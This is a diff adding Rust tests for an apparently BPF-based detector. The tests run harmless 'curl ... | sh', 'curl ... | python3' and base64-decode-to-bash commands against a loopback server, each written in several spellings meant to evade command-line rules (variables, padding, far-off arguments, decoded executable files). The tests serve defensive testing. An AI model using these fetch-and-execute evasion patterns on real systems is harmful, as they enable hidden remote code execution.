@@ -201,3 +201,150 @@ fn interpreters_running_decoded_code_are_findings() {
         assert_eq!(f["severity"], "high", "{name}: {f:#}");
     }
 }
+
+/// An HTTP server on loopback answering every request with `body` (at most `n` requests, for
+/// at most a minute): the "attacker's" download.
+fn serve(body: &'static str, n: usize) -> u16 {
+    use std::io::{Read, Write};
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    l.set_nonblocking(true).unwrap();
+    std::thread::spawn(move || {
+        let end = std::time::Instant::now() + std::time::Duration::from_secs(60);
+        let mut served = 0;
+        while served < n && std::time::Instant::now() < end {
+            match l.accept() {
+                Ok((mut c, _)) => {
+                    let _ = c.set_nonblocking(false);
+                    let _ = c.set_read_timeout(Some(std::time::Duration::from_secs(5)));
+                    let mut buf = [0u8; 2048];
+                    let _ = c.read(&mut buf);
+                    let _ = write!(
+                        c,
+                        "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                        body.len()
+                    );
+                    served += 1;
+                }
+                Err(_) => std::thread::sleep(std::time::Duration::from_millis(10)),
+            }
+        }
+    });
+    port
+}
+
+/// `curl … | sh` in the spellings the command-line rules cannot read: in a script file,
+/// through variables, after 4 KB of padding, as the 65th argument; and `curl … | python3`
+/// in a script. Each is caught from what the kernel says the processes' standard input and
+/// output are, and from curl's connection.
+#[test]
+fn network_data_piped_into_an_interpreter_is_caught_however_it_is_spelled() {
+    if !require_bpf() {
+        return;
+    }
+    let sh_port = serve("echo pwned-sh\n", 16);
+    let py_port = serve("print('pwned-py')\n", 4);
+    let tmp = TempDir::new("pipe-network");
+    let url = format!("http://127.0.0.1:{sh_port}/i.sh");
+    fs::write(tmp.join("install.sh"), format!("curl -s {url} | /bin/sh\n")).unwrap();
+    fs::write(
+        tmp.join("setup.sh"),
+        format!("curl -s http://127.0.0.1:{py_port}/i.py | python3\n"),
+    )
+    .unwrap();
+    let padded = format!(
+        "{}curl -s {url} | sh",
+        ": padding-padding-padding;".repeat(160)
+    );
+    let variables = format!("D=curl; S=/bin/sh; $D -s {url} | $S");
+    let mut far: Vec<String> = ["sh", "-c", "eval \"${65}\"", "x"]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+    far.extend((1..=64).map(|i| format!("a{i}")));
+    far.push(format!("curl -s {url} | sh"));
+    let cases: Vec<(&str, Vec<String>, &str)> = vec![
+        (
+            "script file",
+            vec!["sh".into(), "install.sh".into()],
+            "pwned-sh",
+        ),
+        (
+            "variables",
+            vec!["sh".into(), "-c".into(), variables],
+            "pwned-sh",
+        ),
+        (
+            "padding",
+            vec!["sh".into(), "-c".into(), padded],
+            "pwned-sh",
+        ),
+        ("argv[68]", far, "pwned-sh"),
+        ("python", vec!["sh".into(), "setup.sh".into()], "pwned-py"),
+    ];
+    for (name, cmd, printed) in cases {
+        let cmd: Vec<&str> = cmd.iter().map(String::as_str).collect();
+        let w = watch(&tmp, tmp.path(), &[], &[], &cmd);
+        let out = String::from_utf8_lossy(&w.out.stdout).into_owned();
+        assert!(
+            out.contains(printed),
+            "{name}: the payload did not run: {out} {}",
+            w.stderr()
+        );
+        assert_eq!(w.out.status.code(), Some(86), "{name}: {}", w.stderr());
+        let f = w.finding("network-data-piped-to-interpreter");
+        assert_eq!(f["severity"], "critical", "{name}: {f:#}");
+        let m = f["message"].as_str().unwrap();
+        assert!(m.contains("curl |"), "{name}: {m}");
+    }
+}
+
+/// `echo "$PAYLOAD" | $decoder | /bin/bash`: the decoder is the program the variable named.
+#[test]
+fn a_decoder_feeding_a_shell_is_caught_by_what_it_runs() {
+    if !require_bpf() {
+        return;
+    }
+    let tmp = TempDir::new("pipe-decoder");
+    let script = "PAYLOAD=$(printf 'echo pwned' | base64); decoder='base64 -d'; \
+                  echo \"$PAYLOAD\" | $decoder | /bin/bash";
+    let w = watch(&tmp, tmp.path(), &[], &[], &["sh", "-c", script]);
+    assert_eq!(String::from_utf8_lossy(&w.out.stdout).trim(), "pwned");
+    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
+    let f = w.finding("decoded-data-piped-to-interpreter");
+    assert_eq!(f["severity"], "high", "{f:#}");
+    assert_eq!(
+        f["message"],
+        "base64 decoded a program into bash through a pipe"
+    );
+    // The command-line rule cannot read this spelling.
+    assert!(!w.rules().contains(&"decode-piped-to-shell".to_owned()));
+}
+
+/// The tj-actions shape: a decoded file made executable and run. The shell opened the file;
+/// base64, whose standard output it was, wrote it.
+#[test]
+fn a_decoded_file_made_executable_and_run_is_caught() {
+    if !require_bpf() {
+        return;
+    }
+    let tmp = TempDir::new("decoded-file");
+    let a = tmp.join("a.sh");
+    let script = format!(
+        "printf '#!/bin/sh\\necho pwned\\n' | base64 > x.b64; cat x.b64 | base64 -d > {a}; \
+         chmod +x {a}; {a}",
+        a = a.display()
+    );
+    let w = watch(&tmp, tmp.path(), &[], &[], &["sh", "-c", &script]);
+    assert_eq!(String::from_utf8_lossy(&w.out.stdout).trim(), "pwned");
+    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
+    let f = w.finding("exec-decoded-file");
+    assert_eq!(f["severity"], "high", "{f:#}");
+    assert!(
+        f["message"]
+            .as_str()
+            .unwrap()
+            .ends_with("written by base64"),
+        "{f:#}"
+    );
+}
